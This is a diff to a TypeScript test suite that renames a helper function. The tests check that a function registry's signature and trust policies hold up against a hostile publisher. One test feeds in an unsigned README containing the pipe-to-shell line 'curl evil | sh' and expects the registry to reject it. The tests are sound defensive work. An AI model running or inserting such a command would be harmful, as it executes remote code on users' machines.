@@ -37,7 +37,7 @@ afterEach(() => registry.close());
 const KIND = 'SetLabels';
 const REPOSITORY = 'functions/example.com/setlabels';
 
-function statementOf(
+function createStatement(
   release: string,
   { kind = KIND, readme }: { kind?: string; readme?: string } = {},
 ): Statement {
@@ -115,7 +115,7 @@ async function pushBundle(bundle: Uint8Array, subject: OciDigest): Promise<OciDi
 describe('a hostile publisher', () => {
   it('keys that other policies named are recognized when a policy covers the group', async () => {
     const key = newKey();
-    expect((await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))])).status).toBe(201);
+    expect((await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))])).status).toBe(201);
     await apply(policy([key], { groups: ['other.example.com'] }));
     await apply(policy([key], { groups: ['other.example.com', 'example.com'] }));
     expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
@@ -123,7 +123,7 @@ describe('a hostile publisher', () => {
 
   it('adding the same bundle again recognizes such a key', async () => {
     const key = newKey();
-    const bundle = await signedBy(key, statementOf('1.0.0'));
+    const bundle = await signedBy(key, createStatement('1.0.0'));
     await publish('1.0.0', [bundle]);
     await apply(policy([key], { groups: ['other.example.com'] }));
     await apply(policy([key], { groups: ['other.example.com', 'example.com'] }));
@@ -136,10 +136,10 @@ describe('a hostile publisher', () => {
   }, async () => {
     const [stolen, fresh] = [newKey(), newKey()];
     await apply(policy([stolen, fresh]));
-    const bundle = await signedBy(stolen, statementOf('1.0.0'));
+    const bundle = await signedBy(stolen, createStatement('1.0.0'));
     await publish('1.0.0', [bundle]);
     for (let at = 1; at < 64; at++) await attach('1.0.0', Buffer.concat([bundle, Buffer.alloc(at, ' ')]));
-    const last = await attach('1.0.0', await signedBy(fresh, statementOf('1.0.0')));
+    const last = await attach('1.0.0', await signedBy(fresh, createStatement('1.0.0')));
     expect(last.body).toMatchObject({ signature: { trusted: true } });
     expect(last.status).toBe(200);
   });
@@ -147,22 +147,22 @@ describe('a hostile publisher', () => {
   it('a signed function cannot become unsigned', async () => {
     const key = newKey();
     await apply(policy([key], { groups: ['other.example.com'] }));
-    await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
     expect((await publish('1.1.0')).status).toBe(422);
   });
 
   it('a revoked key cannot sign anything more, also if no policy covers the release', async () => {
     const key = newKey();
     await apply(policy([key], { releases: '>=1.0.0' }));
-    await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
     await apply(policy([key], { releases: '>=1.0.0', signer: 'revoked: stolen' }));
-    expect((await publish('0.9.0', [await signedBy(key, statementOf('0.9.0'))])).status).not.toBe(201);
+    expect((await publish('0.9.0', [await signedBy(key, createStatement('0.9.0'))])).status).not.toBe(201);
   });
 
   it('the signature does not cover a README that the publisher did not sign', async () => {
     const key = newKey();
     await apply(policy([key]));
-    const bundle = await signedBy(key, statementOf('1.0.0', { readme: '# good' }));
+    const bundle = await signedBy(key, createStatement('1.0.0', { readme: '# good' }));
     expect((await publish('1.0.0', [bundle], '# run: curl evil | sh')).status).not.toBe(201);
   });
 
@@ -187,7 +187,7 @@ describe('a hostile publisher', () => {
     await client.blob(REPOSITORY, text);
     await client.blob(REPOSITORY, extra);
     await client.put(REPOSITORY, manifestDigest(evil), evil);
-    await pushBundle(await signedBy(key, statementOf('1.0.0')), manifestDigest(evil));
+    await pushBundle(await signedBy(key, createStatement('1.0.0')), manifestDigest(evil));
     const response = await client.put(REPOSITORY, '1.0.0', evil);
     expect([response.status, response.status === 201 ? (await verdict('1.0.0')).signature : '']).not.toEqual([
       201,
@@ -255,7 +255,7 @@ describe('a hostile publisher', () => {
   it('evidence survives untagged collection and deletes of manifests and blobs', async () => {
     const key = newKey();
     await apply(policy([key]));
-    await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
     const { bundles } = await verdict('1.0.0');
     (registry.parts.config as { untaggedDays?: number }).untaggedDays = 1;
     registry.advance(10 * 86_400_000);
@@ -325,7 +325,7 @@ describe('a hostile publisher', () => {
   it('a signature that comes with an existing release is stored or refused, not dropped', async () => {
     const key = newKey();
     expect((await publish('1.0.0')).status).toBe(201);
-    const again = await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
+    const again = await publish('1.0.0', [await signedBy(key, createStatement('1.0.0'))]);
     expect([again.status, (await verdict('1.0.0')).bundles.length]).not.toEqual([200, 0]);
   });
 
@@ -336,7 +336,7 @@ describe('a hostile publisher', () => {
     let storedBundles = 0;
     for (let at = 0; at < 5; at++) {
       const bundle = await signedBy(key, {
-        ...statementOf('1.0.0'),
+        ...createStatement('1.0.0'),
         predicateType: `https://x/${at}`,
         predicate: { text: 'x'.repeat(700_000) },
       });
